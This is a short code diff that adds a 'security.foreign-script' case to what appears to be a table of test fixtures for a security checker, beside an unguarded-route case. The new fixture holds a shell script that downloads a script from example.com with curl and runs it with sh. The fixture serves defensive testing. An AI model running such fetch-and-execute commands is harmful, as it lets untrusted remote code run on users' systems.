@@ -154,6 +154,9 @@ COUPONS = "def coupons(id):\n    return pay(id)\n"
 
 
 OWN: dict[str, Case] = {
+    "security.foreign-script": text(
+        "a.sh", "curl -O https://example.com/i.sh\nsh i.sh\n", "curl -O https://get.helm.sh/i.sh\nsh i.sh\n"
+    ),
     "security.route-unguarded": text(
         "app.py",
         f'{ROUTES}@bp.post("/coupons/<int:id>")\n{COUPONS}',
